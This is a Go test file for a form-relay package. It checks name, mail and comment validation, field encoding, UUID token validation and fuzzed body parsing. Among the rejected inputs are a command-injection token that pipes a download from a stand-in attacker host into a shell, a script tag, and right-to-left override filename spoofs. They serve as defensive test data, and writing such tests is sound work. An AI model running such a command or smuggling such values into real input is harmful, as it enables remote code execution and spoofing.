package tokendesk

import (
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"tokendesk/internal/stdlite"
)

func TestValidate(t *testing.T) {
	long := func(n int) string { return strings.Repeat("é", n) }
	tests := []struct {
		name      string
		values    url.Values
		want      Form
		wantCode  string
		wantField string
	}{
		{"minimal", url.Values{"name": {"Ann"}, "mail": {"ann@example.com"}},
			Form{Name: "Ann", Mail: "ann@example.com"}, "", ""},
		{"all fields trimmed", url.Values{"name": {"  Ann Lee "}, "mail": {" ann@example.com\n"}, "comment": {" for Unreal \n"}},
			Form{Name: "Ann Lee", Mail: "ann@example.com", Comment: "for Unreal"}, "", ""},
		{"unknown fields dropped", url.Values{"name": {"Ann"}, "mail": {"ann@example.com"}, "token": {"x"}, "admin": {"1", "2"}},
			Form{Name: "Ann", Mail: "ann@example.com"}, "", ""},
		{"angle-bracket address is sent bare", url.Values{"name": {"Ann"}, "mail": {"<ann@example.com>"}},
			Form{Name: "Ann", Mail: "ann@example.com"}, "", ""},
		{"name at limit", url.Values{"name": {long(MaxNameChars)}, "mail": {"a@b.io"}},
			Form{Name: long(MaxNameChars), Mail: "a@b.io"}, "", ""},
		{"comment at limit", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {long(MaxCommentChars)}},
			Form{Name: "A", Mail: "a@b.io", Comment: long(MaxCommentChars)}, "", ""},
		{"comment may span lines", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"one\ntwo"}},
			Form{Name: "A", Mail: "a@b.io", Comment: "one\ntwo"}, "", ""},
		{"comment keeps tabs and a form's CRLF", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\tb\r\nc"}},
			Form{Name: "A", Mail: "a@b.io", Comment: "a\tb\r\nc"}, "", ""},
		{"right-to-left name with its marks", url.Values{"name": {"\u05d3\u05e0\u05d4 \u200fLee"}, "mail": {"a@b.io"}},
			Form{Name: "\u05d3\u05e0\u05d4 \u200fLee", Mail: "a@b.io"}, "", ""},

		{"name missing", url.Values{"mail": {"a@b.io"}}, Form{}, CodeFieldRequired, FieldName},
		{"name blank", url.Values{"name": {"   "}, "mail": {"a@b.io"}}, Form{}, CodeFieldRequired, FieldName},
		{"name too long", url.Values{"name": {long(MaxNameChars + 1)}, "mail": {"a@b.io"}}, Form{}, CodeFieldTooLong, FieldName},
		{"name with newline", url.Values{"name": {"A\nB"}, "mail": {"a@b.io"}}, Form{}, CodeFieldInvalid, FieldName},
		{"name not UTF-8", url.Values{"name": {"A\xff"}, "mail": {"a@b.io"}}, Form{}, CodeFieldInvalid, FieldName},
		{"mail missing", url.Values{"name": {"A"}}, Form{}, CodeFieldRequired, FieldMail},
		{"mail invalid", url.Values{"name": {"A"}, "mail": {"not an address"}}, Form{}, CodeFieldInvalid, FieldMail},
		{"mail with display name", url.Values{"name": {"A"}, "mail": {"Ann <ann@example.com>"}}, Form{}, CodeFieldInvalid, FieldMail},
		{"two addresses", url.Values{"name": {"A"}, "mail": {"a@b.io, c@d.io"}}, Form{}, CodeFieldInvalid, FieldMail},
		{"mail without domain dot", url.Values{"name": {"A"}, "mail": {"ann@localhost"}}, Form{}, CodeFieldInvalid, FieldMail},
		{"mail too long", url.Values{"name": {"A"}, "mail": {strings.Repeat("a", 250) + "@b.io"}}, Form{}, CodeFieldTooLong, FieldMail},
		{"comment with NUL", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\x00b"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with ESC", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"\x1b[2Jcleared"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with a lone CR", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\rb"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with DEL", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\x7fb"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with C1 control", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\u009bb"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with bidi override", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"safe \u202eexe.txt"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"comment with bidi isolate", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"\u2066x\u2069"}}, Form{}, CodeFieldInvalid, FieldComment},
		{"name with bidi override", url.Values{"name": {"Ann \u202egnp.exe"}, "mail": {"a@b.io"}}, Form{}, CodeFieldInvalid, FieldName},
		{"mail with bidi override", url.Values{"name": {"A"}, "mail": {"\u202eann@example.com"}}, Form{}, CodeFieldInvalid, FieldMail},
		{"comment too long", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {long(MaxCommentChars + 1)}}, Form{}, CodeFieldTooLong, FieldComment},
		{"name twice", url.Values{"name": {"A", "B"}, "mail": {"a@b.io"}}, Form{}, CodeFieldDuplicated, FieldName},
		{"mail twice", url.Values{"name": {"A"}, "mail": {"a@b.io", "a@b.io"}}, Form{}, CodeFieldDuplicated, FieldMail},
		{"comment twice", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"", ""}}, Form{}, CodeFieldDuplicated, FieldComment},
		{"duplicate wins over missing", url.Values{"mail": {"x", "y"}}, Form{}, CodeFieldDuplicated, FieldMail},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Validate(tt.values)
			if tt.wantCode == "" {
				if err != nil {
					t.Fatalf("Validate: unexpected error %v", err)
				}
				if got != tt.want {
					t.Fatalf("Validate = %+v, want %+v", got, tt.want)
				}
				return
			}
			if err == nil {
				t.Fatalf("Validate = %+v, want error %s", got, tt.wantCode)
			}
			if err.Code != tt.wantCode || err.Field != tt.wantField || err.Status != 400 {
				t.Fatalf("error = %s %s %d, want %s %s 400", err.Code, err.Field, err.Status, tt.wantCode, tt.wantField)
			}
			if err.Message == "" || !strings.HasSuffix(err.Message, ".") {
				t.Fatalf("message %q is not a sentence", err.Message)
			}
		})
	}
}

func TestEncodeSendsExactlyThreeFields(t *testing.T) {
	f := Form{Name: "Ann & Bob", Mail: "a+b@example.com", Comment: "x=1&y=2 ü"}
	values, err := url.ParseQuery(f.Encode())
	if err != nil {
		t.Fatal(err)
	}
	want := url.Values{"name": {f.Name}, "mail": {f.Mail}, "comment": {f.Comment}}
	if len(values) != 3 {
		t.Fatalf("encoded %d fields, want 3: %v", len(values), values)
	}
	for k, v := range want {
		if values.Get(k) != v[0] || len(values[k]) != 1 {
			t.Errorf("field %s = %q, want %q", k, values[k], v)
		}
	}
}

func TestValidateFieldMatchesValidate(t *testing.T) {
	// The UI checks one field at a time; it must say what the relay says.
	for _, v := range []string{"", " ", "a", "a@b", "a@b.io", "Ann <a@b.io>", strings.Repeat("x", 300)} {
		for _, field := range Fields {
			values := url.Values{"name": {"A"}, "mail": {"a@b.io"}}
			values.Set(field, v)
			_, whole := Validate(values)
			single := ValidateField(field, v)
			if (whole == nil) != (single == nil) || (whole != nil && whole.Error() != single.Error()) {
				t.Errorf("field %s value %q: Validate %v, ValidateField %v", field, v, whole, single)
			}
		}
	}
}

func TestValidToken(t *testing.T) {
	for token, want := range map[string]bool{
		"4520efa4-ee63-4a6d-a585-091dc338ee28":  true,
		"4520EFA4-EE63-4A6D-A585-091DC338EE28":  true,
		"abc":                                   false,
		"":                                      false,
		"has space":                             false,
		"<script>":                              false,
		"x'$(curl evil.example|sh)'":            false,
		"4520efa4-ee63-4a6d-a585-091dc338ee2'":  false,
		"4520efa4-ee63-4a6d-a585-091dc338ee28 ": false,
		"4520efa4ee634a6da585091dc338ee28":      false,
	} {
		if got := ValidToken(token); got != want {
			t.Errorf("ValidToken(%q) = %v, want %v", token, got, want)
		}
	}
}

func TestFormFieldsAreFields(t *testing.T) {
	if len(FormFields) != len(Fields) {
		t.Fatalf("%d form fields, %d fields", len(FormFields), len(Fields))
	}
	for i, f := range FormFields {
		if f.Name != Fields[i] {
			t.Errorf("form field %d is %s, want %s", i, f.Name, Fields[i])
		}
	}
}

// FuzzParseAndValidate feeds arbitrary bodies and content types through the
// whole contract. Invariants: no panic; every error is a client error with a
// code and a sentence; a valid form is within the limits, re-validates to
// itself, and its encoding carries exactly the three fields.
func FuzzParseAndValidate(f *testing.F) {
	f.Add(stdlite.ContentTypeURLEncoded, []byte("name=Ann&mail=ann%40example.com&comment=hi"))
	f.Add(stdlite.ContentTypeURLEncoded, []byte("name=Ann&name=Bob&mail=a@b.io"))
	f.Add(stdlite.ContentTypeURLEncoded, []byte("name=%zz"))
	f.Add(stdlite.ContentTypeURLEncoded+"; charset=utf-8", []byte("name=A&mail=%3Cann%40example.com%3E"))
	f.Add("multipart/form-data; boundary=XYZ", []byte("--XYZ\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nAnn\r\n--XYZ\r\nContent-Disposition: form-data; name=\"mail\"\r\n\r\nann@example.com\r\n--XYZ--\r\n"))
	f.Add("multipart/form-data; boundary=XYZ", []byte("--XYZ\r\nContent-Disposition: form-data; name=\"name\"; filename=\"a.txt\"\r\n\r\nAnn\r\n--XYZ--\r\n"))
	f.Add("multipart/form-data", []byte("--\r\n"))
	f.Add("text/plain", []byte("name=Ann"))
	f.Add("", []byte{})
	f.Fuzz(func(t *testing.T, contentType string, body []byte) {
		if len(body) > MaxBodyBytes {
			body = body[:MaxBodyBytes]
		}
		values, perr := ParseBody(contentType, body)
		if perr != nil {
			checkClientError(t, perr)
			return
		}
		form, verr := Validate(values)
		if verr != nil {
			checkClientError(t, verr)
			if verr.Field == "" {
				t.Fatalf("validation error without a field: %v", verr)
			}
			return
		}
		if n := utf8.RuneCountInString(form.Name); n == 0 || n > MaxNameChars {
			t.Fatalf("valid name has %d characters", n)
		}
		if form.Mail == "" || len(form.Mail) > MaxMailBytes {
			t.Fatalf("valid mail has %d bytes", len(form.Mail))
		}
		if utf8.RuneCountInString(form.Comment) > MaxCommentChars {
			t.Fatal("valid comment is over the limit")
		}
		sent, err := url.ParseQuery(form.Encode())
		if err != nil || len(sent) != 3 {
			t.Fatalf("encoded form %q does not parse to three fields", form.Encode())
		}
		again, err2 := Validate(sent)
		if err2 != nil || again != form {
			t.Fatalf("form %+v does not re-validate to itself: %+v, %v", form, again, err2)
		}
	})
}

func checkClientError(t *testing.T, e *Error) {
	t.Helper()
	if e.Status < 400 || e.Status > 499 || e.Code == "" || e.Message == "" {
		t.Fatalf("bad error %+v", e)
	}
}

// FuzzValidateField checks the per-field rules the UI runs on each keystroke.
func FuzzValidateField(f *testing.F) {
	for _, s := range []string{"", "Ann", "ann@example.com", "a@b", "\"quoted\"@example.com", "x\x00y"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, value string) {
		for _, field := range Fields {
			if e := ValidateField(field, value); e != nil {
				checkClientError(t, e)
				if e.Field != field {
					t.Fatalf("error for %s names field %s", field, e.Field)
				}
			}
		}
	})
}
